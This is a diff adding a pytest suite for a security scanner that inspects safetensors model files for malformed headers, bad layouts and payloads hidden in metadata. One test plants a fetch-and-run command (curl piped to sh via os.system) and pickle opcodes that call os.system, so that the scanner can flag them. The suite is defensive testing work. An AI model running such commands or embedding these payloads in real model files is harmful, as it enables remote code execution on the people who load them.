@@ -1,0 +1,213 @@
+from __future__ import annotations
+
+import base64
+import json
+import pickle
+import struct
+import time
+from pathlib import Path
+
+import numpy as np
+import pytest
+import torch
+from _dataformats_util import assert_clean, has_pickle_scanner, rules_of, scan
+from safetensors.numpy import save_file
+from safetensors.torch import save_file as save_torch
+
+from modelaudit.findings import FileStatus, IssueSeverity
+from modelaudit.scanners import safetensors_scanner as st
+
+
+def _write(path: Path, header: dict, data: bytes = b"") -> Path:
+    raw = json.dumps(header).encode()
+    path.write_bytes(struct.pack("<Q", len(raw)) + raw + data)
+    return path
+
+
+def test_numpy_file_is_clean(tmp_path: Path) -> None:
+    path = tmp_path / "model.safetensors"
+    save_file(
+        {"w": np.ones((4, 3), dtype=np.float32), "b": np.arange(5, dtype=np.int64)},
+        str(path),
+        metadata={"format": "np"},
+    )
+    result = scan(path)
+    assert result.scanner_name == "safetensors"
+    assert_clean(result)
+    assert result.metadata["format_details"]["tensors"] == 2
+    assert result.bytes_scanned < 300
+
+
+def test_torch_file_with_float8_and_bf16_is_clean(tmp_path: Path) -> None:
+    path = tmp_path / "model.safetensors"
+    save_torch(
+        {
+            "a": torch.zeros((3, 5), dtype=torch.bfloat16),
+            "b": torch.zeros(7, dtype=torch.float8_e4m3fn),
+            "c": torch.zeros(2, dtype=torch.float8_e5m2),
+            "d": torch.zeros((0, 4), dtype=torch.float16),
+        },
+        str(path),
+        metadata={"format": "pt"},
+    )
+    result = scan(path)
+    assert_clean(result)
+    assert set(result.metadata["format_details"]["dtypes"]) == {"BF16", "F8_E4M3", "F8_E5M2", "F16"}
+
+
+def test_sub_byte_dtypes_are_known(tmp_path: Path) -> None:
+    header = {
+        "a": {"dtype": "F4", "shape": [2, 8], "data_offsets": [0, 8]},
+        "b": {"dtype": "F6_E2M3", "shape": [4], "data_offsets": [8, 11]},
+        "c": {"dtype": "F8_E8M0", "shape": [5], "data_offsets": [11, 16]},
+    }
+    assert_clean(scan(_write(tmp_path / "x.safetensors", header, bytes(16))))
+
+
+def test_tensor_bytes_with_executable_magic_raise_nothing(tmp_path: Path) -> None:
+    blob = b"\x7fELF\x02\x01\x01" + b"MZ" + b"\x00" * 55 + b"#!/bin/sh\n" + b"\x00" * 54
+    arr = np.frombuffer(blob, dtype=np.uint8).copy()
+    path = tmp_path / "model.safetensors"
+    save_file({"w": arr}, str(path))
+    assert_clean(scan(path))
+
+
+def test_renamed_file_reaches_safetensors_scanner(tmp_path: Path) -> None:
+    path = tmp_path / "pytorch_model.bin"
+    save_file({"w": np.ones(3, dtype=np.float32)}, str(path))
+    result = scan(path)
+    assert result.scanner_name == "safetensors"
+    assert_clean(result)
+
+
+def test_header_length_whose_first_byte_looks_like_pickle(tmp_path: Path) -> None:
+    header = {"w": {"dtype": "U8", "shape": [4], "data_offsets": [0, 4]}}
+    raw = json.dumps(header).encode()
+    raw += b" " * (0x280 - len(raw))
+    path = tmp_path / "weights.bin"
+    path.write_bytes(struct.pack("<Q", len(raw)) + raw + b"abcd")
+    result = scan(path)
+    assert result.scanner_name == "safetensors"
+    assert_clean(result)
+
+
+def test_huge_header_length_is_bounded(tmp_path: Path) -> None:
+    path = tmp_path / "evil.safetensors"
+    path.write_bytes(struct.pack("<Q", 2**64 - 9) + b"{}" + bytes(64))
+    start = time.monotonic()
+    result = scan(path)
+    assert time.monotonic() - start < 30
+    assert result.status is FileStatus.INCONCLUSIVE
+    assert st.HEADER_TOO_LARGE in rules_of(result, IssueSeverity.WARNING)
+
+
+def test_header_longer_than_file(tmp_path: Path) -> None:
+    path = tmp_path / "short.safetensors"
+    path.write_bytes(struct.pack("<Q", 5000) + b'{"a": 1}')
+    result = scan(path)
+    assert result.status is FileStatus.INCONCLUSIVE
+    assert st.HEADER_TOO_LARGE in rules_of(result)
+
+
+def test_invalid_json_is_inconclusive(tmp_path: Path) -> None:
+    raw = b'{"w": {"dtype": "F32", '
+    path = tmp_path / "bad.safetensors"
+    path.write_bytes(struct.pack("<Q", len(raw)) + raw)
+    result = scan(path)
+    assert result.status is FileStatus.INCONCLUSIVE
+    assert "not valid JSON" in (result.status_reason or "")
+
+
+def test_deep_nesting_in_header(tmp_path: Path) -> None:
+    raw = b'{"__metadata__": ' + b"[" * 50000 + b"]" * 50000 + b"}"
+    path = tmp_path / "deep.safetensors"
+    path.write_bytes(struct.pack("<Q", len(raw)) + raw)
+    result = scan(path)
+    assert result.status is FileStatus.INCONCLUSIVE
+    assert st.BAD_HEADER in rules_of(result, IssueSeverity.WARNING)
+
+
+@pytest.mark.parametrize(
+    ("header", "data_len", "fragment"),
+    [
+        (
+            {
+                "a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
+                "b": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]},
+            },
+            12,
+            "overlaps",
+        ),
+        (
+            {
+                "a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
+                "b": {"dtype": "F32", "shape": [2], "data_offsets": [16, 24]},
+            },
+            24,
+            "unreferenced",
+        ),
+        ({"a": {"dtype": "F32", "shape": [3], "data_offsets": [0, 8]}}, 8, "needs 12"),
+        ({"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}, 4, "outside"),
+        ({"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}, 100, "after the last"),
+    ],
+)
+def test_bad_layouts(tmp_path: Path, header: dict, data_len: int, fragment: str) -> None:
+    result = scan(_write(tmp_path / "x.safetensors", header, bytes(data_len)))
+    issues = [i for i in result.issues if i.rule == st.BAD_LAYOUT]
+    assert issues and issues[0].severity is IssueSeverity.WARNING
+    assert any(fragment in p for p in issues[0].details["problems"]), issues[0].details
+
+
+def test_unknown_dtype(tmp_path: Path) -> None:
+    header = {"a": {"dtype": "PYOBJ", "shape": [1], "data_offsets": [0, 8]}}
+    result = scan(_write(tmp_path / "x.safetensors", header, bytes(8)))
+    assert st.UNKNOWN_DTYPE in rules_of(result, IssueSeverity.WARNING)
+
+
+def test_duplicate_keys(tmp_path: Path) -> None:
+    entry = '{"dtype": "U8", "shape": [1], "data_offsets": [0, 1]}'
+    raw = ('{"a": ' + entry + ', "a": ' + entry + "}").encode()
+    path = tmp_path / "dup.safetensors"
+    path.write_bytes(struct.pack("<Q", len(raw)) + raw + b"x")
+    assert st.BAD_HEADER in rules_of(scan(path), IssueSeverity.WARNING)
+
+
+def test_metadata_with_code_pickle_and_url(tmp_path: Path) -> None:
+    payload = base64.b64encode(pickle.dumps({"a": 1}, protocol=4)).decode()
+    path = tmp_path / "meta.safetensors"
+    save_file(
+        {"w": np.ones(2, dtype=np.float32)},
+        str(path),
+        metadata={
+            "format": "pt",
+            "hook": "__import__('os').system('curl http://x | sh')",
+            "state": payload,
+            "raw": "cos\nsystem\n(S'id'\ntR.",
+            "homepage": "https://example.com/model",
+        },
+    )
+    result = scan(path)
+    found = {
+        (i.details["key"], i.details["kind"]): i.severity
+        for i in result.issues
+        if i.rule == st.METADATA_PAYLOAD
+    }
+    assert found[("hook", "code")] is IssueSeverity.WARNING
+    assert found[("state", "pickle")] is IssueSeverity.WARNING
+    assert found[("raw", "pickle")] is IssueSeverity.WARNING
+    assert found[("homepage", "url")] is IssueSeverity.INFO
+    assert ("format", "code") not in found
+    if has_pickle_scanner():
+        assert IssueSeverity.CRITICAL in {i.severity for i in result.issues}
+
+
+def test_plain_metadata_is_clean(tmp_path: Path) -> None:
+    path = tmp_path / "m.safetensors"
+    save_file(
+        {"w": np.ones(2, dtype=np.float32)},
+        str(path),
+        metadata={"format": "pt", "license": "apache-2.0", "note": "trained for 3 epochs"},
+    )
+    result = scan(path)
+    assert_clean(result)
+    assert result.metadata["license"] == "apache-2.0"
